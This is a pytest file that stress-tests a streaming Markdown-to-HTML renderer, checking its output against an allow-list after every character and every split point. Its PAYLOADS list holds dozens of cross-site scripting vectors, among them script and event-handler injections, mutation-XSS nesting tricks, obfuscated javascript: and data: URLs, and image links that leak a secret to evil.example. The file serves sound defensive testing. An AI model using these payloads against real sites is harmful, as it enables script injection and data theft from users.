"""Hostile text: nothing dangerous stands in any HTML at any moment, wherever the text is cut."""

import re
from html.parser import HTMLParser

import pytest

from apps.generation.markdown import LiveMarkdown, TailAppend, Update, render
from dev.model_server import hostile

BARE = ("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "pre", "blockquote", "ul", "li")
ALLOWED = {
    **dict.fromkeys((*BARE, "table", "thead", "tbody", "tr"), frozenset()),
    "a": {"href", "title", "rel", "target"},
    "ol": {"start"},
    "code": {"class"},
    "span": {"class", "data-open"},
    "th": {"class"},
    "td": {"class"},
}
VALUES = {
    "href": r"(https?://|mailto:).*",
    "rel": "nofollow noopener noreferrer ugc",
    "target": "_blank",
    "start": r"\d+",
    "class": r"language-[\w+#.-]+|[a-z][a-z0-9]{0,2}|align-(left|center|right)",
    "title": ".*",
}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example>",
    "<a href=javascript:alert(1)>x</a><input autofocus onfocus=alert(1)>",
    "<!--><script>alert(1)//--><![CDATA[<script>]]><?php ?>",
    "<plaintext><textarea><title></title><xmp>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x]( javascript:alert(1))",
    "[x](java\tscript:alert(1)) [x](java\nscript:alert(1)) [x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](&#x6A&#x61;vascript:x)",
    "[x](javascript\\:alert(1)) [x](%6aavascript:alert(1)) [x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:x) [x](//evil.example) [x](/logout)",
    '<javascript:alert(1)> <data:text/html,x> <https://a.example/"onmouseover="alert(1)>',
    '[x](https://a.example/"onmouseover=alert(1)) [x](https://a.example \'a" onclick="alert(1)\')',
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    '[x]: https://a.example "t" onclick=alert(1)"\n\n[x]',
    "![x](https://evil.example/leak?secret) ![x](//evil.example) ![x][y]\n\n[y]: https://evil.example",
    "[![x](https://evil.example/a.png)](https://b.example)",
    '![<img src=x onerror=alert(1)>](x "<script>")',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```\n</code></pre><script>alert(1)</script>",
    "````\n```\n</code><script>x</script>\n````\n~~~x onclick=alert(1)\n~~~",
    "```python class=x onload=alert(1)\n'</span><script>'\n```",
    "`<script>` ``</code><script>`` <b>`</b>`",
    "http://a.example/<script>alert(1)</script> https://a.example/'\"><img src=x>",
    'www.a.example"onmouseover=alert(1) a"onclick=alert(1)@b.example mailto:x?body=<script>',
    "| <script> | [x](javascript:y) |\n|---|:-:|\n| <img onerror=x> | ![x](https://e.example) |",
    "# <script>x</script> {#id onclick=x}\n\nx\n<svg onload=x>\n===",
    "\u202e<script>\u2066 \x1b]8;;javascript:x\x07 \x00<scr\x00ipt>",
    "&lt;script&gt; &#60;script&#62; &amp;lt;script&amp;gt; &NotAnEntity;",
    '[a](<https://x.example/\n> [b](https://x.example "\n"> <b\n>',
]
PLACES = [
    "{}",
    "- {}",
    "> {}",
    "| a | b |\n|---|---|\n| {} | x |\n",
    "```html\n{}\n```\nx",
    "*{}*",
    "1. a\n\n   {}\n2. b",
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_stands_in_the_html_after_any_character(payload, place):
    text = place.format(payload)
    live = LiveMarkdown()
    for character in text:
        event = live.append(character)
        if isinstance(event, Update):
            assert_safe("".join(event.frozen) + event.tail)
        if isinstance(event, TailAppend):
            assert "<" not in event.html
        assert_safe(live.tail_html)
    end = live.finish()

    assert_safe("".join(live.frozen))
    assert_safe(end.canonical or "")
    assert_safe(render(text))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_comes_of_a_cut_in_two_anywhere(payload):
    for at in range(len(payload)):
        live = LiveMarkdown()
        for piece in (payload[:at], payload[at:]):
            live.append(piece)
            assert_safe("".join(live.frozen) + live.tail_html)
        live.finish()

        assert_safe("".join(live.frozen))


@pytest.mark.parametrize("payload", hostile.payloads(), ids=range(len(hostile.payloads())))
def test_each_answer_of_the_long_list_is_safe_after_any_character(payload):
    live = LiveMarkdown()
    for character in payload + hostile.BETWEEN:
        live.append(character)
        assert_safe("".join(live.frozen) + live.tail_html)

    assert_safe(live.finish().canonical or "".join(live.frozen))
    assert_safe(render(payload))


@pytest.mark.parametrize("payload", hostile.fences(), ids=range(len(hostile.fences())))
def test_a_nested_fence_is_the_same_wherever_it_is_cut(payload):
    text = f"Before\n\n{payload}\n\nAfter\n"
    for at in range(len(text)):
        live = LiveMarkdown()
        for piece in (text[:at], text[at:]):
            live.append(piece)
            assert_safe("".join(live.frozen) + live.tail_html)
        canonical = live.finish().canonical

        assert (canonical or "".join(live.frozen)) == render(text)


@pytest.mark.parametrize(
    "html", ["<script>", "<img src=x>", "<a href='javascript:x'>", "<p id=x>", "<p style='x'>", "<!-- x -->", "<p></b>"]
)
def test_the_check_itself_finds_what_is_dangerous(html):
    with pytest.raises(AssertionError):
        assert_safe(html)


def assert_safe(html):
    checker = _Checker()
    checker.feed(html)
    checker.close()
    assert not checker.open, html
    assert not re.search(r"[\x00\x07\x1b\u202e\u2066]", html)


class _Checker(HTMLParser):
    """Fails on any tag, attribute or value beside the allow-list, and on tags that are not balanced."""

    def __init__(self):
        super().__init__()
        self.open = []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            assert re.fullmatch(VALUES.get(name, ""), value or "", re.DOTALL), (name, value)
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment
